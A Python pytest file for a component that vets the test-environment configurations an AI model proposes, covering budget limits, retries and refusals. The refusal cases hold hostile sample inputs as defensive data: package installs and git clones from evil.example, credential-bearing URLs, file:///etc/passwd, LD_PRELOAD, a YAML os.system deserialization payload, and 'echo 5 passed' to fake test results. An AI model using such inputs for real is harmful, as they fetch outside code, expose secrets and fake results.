"""A model looks for the configuration with which base's tests run; what it proposes is bounded."""

from __future__ import annotations

import pytest

from agent.editing import scouting
from agent.environments.obstacles import Obstacle
from agent.errors import RequestRefused
from agent.models.chat import Worst
from agent.models.checks import CheckItem, CheckReport, CheckResult, Status, SuiteFacts
from agent.models.environment import Layer
from agent.testing import FakeModel, make_reply
from repo_config.schema import PackagesCommand
from tests.unit.editing import desks

FILES = {
    "package.json": "{}",
    ".npmrc": "",
    "app/tests/test_a.py": "",
    "app/tests/test_b.py": "",
}
SET_UP = "setup: [mkdir -p data]"


def report(suite=None, **outcomes: int) -> CheckReport:
    items = tuple(
        CheckItem(
            item_id=f"app/tests/test_a.py::{one}{n}", outcome=one, text="E   OSError: no data"
        )
        for one, count in outcomes.items()
        for n in range(count)
    )
    tests = CheckResult(name="tests", status=Status.FAILED, items=items, suite=suite)
    return CheckReport(side="base", commit="c", change_digest=None, results=(tests,))


def try_(text=SET_UP):
    return ("try_configuration", {"yaml": text})


def read(text, prepared, home):
    svc = desks.run_context(prepared, home, FakeModel(lambda _: make_reply())).svc
    return scouting.read_lines(text, prepared, svc)


@pytest.fixture
def prepared(tmp_path, home):
    return desks.repository(tmp_path, home, FILES)


@pytest.fixture
def scout(prepared, home):
    """Let a model propose; each proposal ends as one of the reports, or for a reason."""

    def begin(turns, ends, **facts):
        model = FakeModel(lambda request: turns.pop(0), **facts)
        run_context = desks.run_context(prepared, home, model)
        tried = []

        def try_lines(text, name):
            tried.append((text, name))
            end = ends.pop(0)
            return end if isinstance(end, str) else (prepared, end)

        found = scouting.scout_configuration(
            run_context, lambda: prepared, Obstacle(words="No data."), try_lines
        )
        assert run_context.budget_share == 1.0
        sent = (one.content for request in model.requests[1:]
                for one in request.messages[-1].results)  # fmt: skip
        return found, [*sent], tried, run_context

    return begin


def test_what_most_tests_pass_with_ends_the_search(scout):
    turns = [make_reply(desks.bash("ls")), make_reply(try_("env: {A: b}")), make_reply(try_())]
    found, answers, tried, _ = scout(turns, ["OSError: no data", report(passed=3)])
    assert found[1] == report(passed=3)
    assert tried == [("env: {A: b}", "try 1"), (SET_UP, "try 2")]
    assert answers[-1] == "OSError: no data"


def test_it_ends_after_six_tries_with_what_ran_most_of_the_tests(scout):
    some, more = report(passed=1, error=2), report(passed=2, error=3)
    turns = [make_reply(try_(f"env: {{A: a{number}}}")) for number in range(7)]
    found, answers, tried, _ = scout(turns, ["no such package", some, more, some, some, some])
    assert found[1] == more
    assert len(tried) == 6
    assert "passed 1" in answers[1]
    assert "OSError: no data" in answers[1]


def test_it_ends_once_it_has_spent_its_quarter(scout, prepared, home):
    limits = desks.run_context(prepared, home, FakeModel(lambda _: make_reply())).limits
    # The first costs a cent, and the next could cost as much as a quarter of the run.
    found, _, _, run_context = scout(
        [make_reply(desks.bash())], [], worst=Worst(tokens=9, usd=limits.usd / 4)
    )
    assert run_context.usage.tokens == 10
    assert "quarter" in found
    assert "limits.usd" in found


def test_a_model_that_gives_up_says_why_and_without_one_nobody_is_asked(scout):
    found, *_ = scout([make_reply(("decline", {"why": "LDAP is needed."}))], [])
    assert "LDAP is needed." in found
    assert scout([], [], roles=())[0] == ""


def test_a_run_that_goes_on_after_a_kill_asks_nothing_twice(prepared, home):
    records = desks.Records()
    for turns in ([make_reply(desks.bash()), make_reply(try_())], []):
        model = FakeModel(lambda request, turns=turns: turns.pop(0))
        run_context = desks.run_context(prepared, home, model, records=records)
        end = (prepared, report(passed=3))
        found = scouting.scout_configuration(
            run_context, lambda: prepared, Obstacle(words="x"), lambda text, name, end=end: end
        )
        assert found == end
        assert run_context.usage.tokens == 20


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("checks: {tests: {args: [--deselect=app/tests/test_a.py]}}", "no path"),
        ("checks: {tests: {args: ['-papp.tests']}}", "no path"),
        ("python: {install: ['x @ https://evil.example/x.whl']}", "evil.example"),
        ("python: {install: ['x @ file:///etc/passwd']}", "addresses"),
        ("env: {A: 'http://ada:b@evil.example/'}", "evil.example"),
        ("setup: ['git clone ssh://evil.example/x']", "evil.example"),
        ("root: ../other", "repository"),
        ("django: {manage: /etc/manage.py}", "absolute"),
        ("python: {install: ['-r missing.txt']}", "no such file"),
        ("checks: {tests: {command: 'echo 5 passed'}}", "command"),
        ("checks: {tests: {runner: 'off', minutes: 600}}", "minutes"),
        ("checks: {tests: {runner: 'off'}}", "no test"),
        ("scope: {protect: []}", "scope"),
        ("env: {AWS_SECRET_ACCESS_KEY: abc}", "secret"),
        ("env: {MERGEWRIGHT_MODEL: x}", "MERGEWRIGHT_MODEL"),
        ("env: {PYTEST_ADDOPTS: -x}", "PYTEST_ADDOPTS"),
        ("env: {LD_PRELOAD: x.so}", "LD_PRELOAD"),
        ("setup: [{run: npm ci, network: packages, files: [gone.json]}]", "network"),
        ("setup: [{run: npm ci, network: packages, files: [.npmrc]}]", "network"),
        ("setup: [{run: npm ci; env, network: packages, files: [package.json]}]", "network"),
        ("setup: [{run: npm ci --registry=x, network: packages, files: [package.json]}]", "network"),
        ("!!python/object/apply:os.system ['true']", "proposed.yml:1"),
    ],
)  # fmt: skip
def test_what_goes_beyond_a_set_up_is_refused_before_anything_is_built(prepared, home, text, why):
    with pytest.raises(RequestRefused, match=why):
        read(text, prepared, home)


@pytest.mark.parametrize(
    "text",
    [
        "env: {SECRET_KEY: test, DATABASE_URL: 'postgres://u:p@localhost:5432/db', PYTHONPATH: app}",
        "setup: [{run: npm ci --ignore-scripts, network: packages, files: [package.json]}]",
        "version: 1\nroot: app\nchecks: {tests: {args: [tests.test_a, ./tests/test_b.py]}}",
    ],
)
def test_what_a_set_up_needs_is_taken(prepared, home, text):
    assert read(text, prepared, home).scouted


def test_fewer_tests_and_what_decides_about_them_are_refused(prepared, home, tmp_path):
    svc = desks.run_context(prepared, home, FakeModel(lambda _: make_reply())).svc
    contract = read(SET_UP, prepared, home)
    facts = SuiteFacts(files=("app/tests/test_a.py",))
    for number, (name, refused) in enumerate(
        (
            ("tree/app/conftest.py", True),
            ("tree/app/test_x.py", True),
            ("tree/lib/unittest.py", True),
            ("home/lib/json.py", True),
            ("bulk/0/pytest.py", True),
            ("bulk/0/index.js", False),
            ("tree/data/x", False),
        )
    ):
        folder = tmp_path / f"layer-{number}"
        place = folder / name
        place.parent.mkdir(parents=True)
        place.touch()
        layers = (Layer(folder=str(folder), bulk=("modules",)),)
        environment = prepared.environment.model_copy(update={"layers": layers})
        update = {"contract": contract, "environment": environment}
        made = prepared.model_copy(update=update)
        given = made, report(facts, passed=3), 3, svc
        if refused:
            planted = layers[0]
            with pytest.raises(RequestRefused, match=place.name):
                scouting.name_left_out(prepared, *given)
            assert scouting.name_left_out(made, *given), (
                "what the repository's own set-up makes may stay"
            )
        else:
            looked = scouting.name_left_out(prepared, *given)
    lines, left = looked.scouted
    assert "`setup:" in lines.message
    assert "app/tests/test_b.py" in left.message
    lent = environment.model_copy(update={"path": f"{folder}/environment"})
    with pytest.raises(RequestRefused, match="environment"):
        scouting.name_left_out(prepared, made.model_copy(update={"environment": lent}), *given[1:])
    npm = PackagesCommand(run="npm ci", network="packages", files=("package.json",))
    config = contract.config.model_copy(update={"setup": (npm, "true")})
    listed = made.model_copy(
        update={
            "contract": contract.model_copy(update={"config": config}),
            "environment": made.environment.model_copy(update={"layers": (planted, *layers)}),
        }
    )
    assert scouting.name_left_out(prepared, listed, *given[1:]), "manifests list it"
    fewer = prepared.model_copy(update={"contract": contract})
    with pytest.raises(RequestRefused, match="3 tests"):
        scouting.name_left_out(prepared, fewer, report(passed=3), 4, svc)
